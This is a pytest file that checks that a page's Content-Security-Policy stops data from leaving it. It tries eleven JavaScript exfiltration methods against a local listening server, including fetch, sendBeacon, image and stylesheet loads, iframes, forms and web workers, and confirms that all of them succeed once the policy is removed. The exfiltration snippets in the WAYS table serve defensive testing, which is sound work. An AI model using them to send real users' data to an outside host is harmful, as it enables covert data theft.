"""Nothing leaves the page: eleven ways to send a file out, against a server that listens."""

from __future__ import annotations

import re
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

#: Each sends the word `secret` to the server under its own name.
WAYS = {
    "fetch": "fetch(to, { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => 0)",
    "request": "{ const x = new XMLHttpRequest(); x.open('POST', to); x.send('secret'); }",
    "beacon": "navigator.sendBeacon(to, 'secret')",
    "image": "new Image().src = to",
    "style": "add('link', { rel: 'stylesheet', href: to })",
    "background": "document.body.style.backgroundImage = `url(${to})`",
    "script": "add('script', { src: to })",
    "frame": "add('iframe', { src: to })",
    "form": (
        "{ add('iframe', { name: 'hidden' });"
        " const f = add('form', { action: to, method: 'post', target: 'hidden' }); f.submit(); }"
    ),
    "worker": "work(`fetch('${to}', { mode: 'no-cors' }).catch(() => 0)`)",
    "worker-script": "work(`try { importScripts('${to}') } catch (error) {}`)",
}
#: Those run in workers tell there that the browser forbade them; the others tell the page.
HELPERS = """
window.forbidden = window.forbidden || [];
const told = (event) => forbidden.push(event.effectiveDirective || event.data);
if (!forbidden.length) document.onsecuritypolicyviolation = told;
const add = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));
const work = (code) => {
  code = `self.addEventListener('securitypolicyviolation', (e) => postMessage('worker ' + e.effectiveDirective));` + code;
  new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))).onmessage = told;
};
"""
#: What forbids the eleven ways, in the order of their names.
FORBIDDEN = Counter(
    [
        *("connect-src", "connect-src", "connect-src", "img-src", "style-src-elem", "img-src"),
        *("script-src-elem", "frame-src", "form-action"),
        *("worker connect-src", "worker script-src-elem"),
    ]
)


@pytest.fixture
def heard() -> Iterator[tuple[str, set[str]]]:
    """The address of a server and the ways by which something came to it."""
    arrived: set[str] = set()

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            arrived.add(self.path.split("/")[1])
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", arrived
    server.shutdown()
    server.server_close()
    thread.join()


def try_all(page, address: str) -> None:
    for name, code in WAYS.items():
        page.evaluate(
            f"(to) => {{ {HELPERS} try {{ {code} }} catch (error) {{}} }}",
            f"{address}/{name}/secret",
        )


def until(happened: Callable[[], bool], page) -> None:
    """Waits for what must happen, at most three minutes."""
    latest = time.monotonic() + 180
    while not happened() and time.monotonic() < latest:
        page.wait_for_timeout(50)


def test_nothing_arrives(browser, page_path: Path, heard: tuple[str, set[str]]) -> None:
    """The browser says of each way that it is forbidden, and the server has heard of none."""
    address, arrived = heard
    page = browser.new_page()
    page.goto(page_path.as_uri())
    try_all(page, address)
    until(lambda: Counter(page.evaluate("forbidden")) >= FORBIDDEN, page)
    assert Counter(page.evaluate("forbidden")) >= FORBIDDEN
    page.close()
    assert arrived == set()


def test_without_the_policy_everything_would(
    browser, page_bytes: bytes, tmp_path: Path, heard: tuple[str, set[str]]
) -> None:
    address, arrived = heard
    open_page = tmp_path / "无策略.html"
    text = page_bytes.decode()
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
    assert bare != text
    open_page.write_text(bare, encoding="utf-8")
    page = browser.new_page()
    page.goto(open_page.as_uri())
    try_all(page, address)
    until(lambda: arrived == set(WAYS), page)
    page.close()
    assert arrived == set(WAYS)


def test_nothing_is_kept_in_the_browser(desk) -> None:
    desk.sample()
    kept = desk.page.evaluate("[document.cookie, Object.keys(window.caches || {}).length]")
    assert kept == ["", 0]
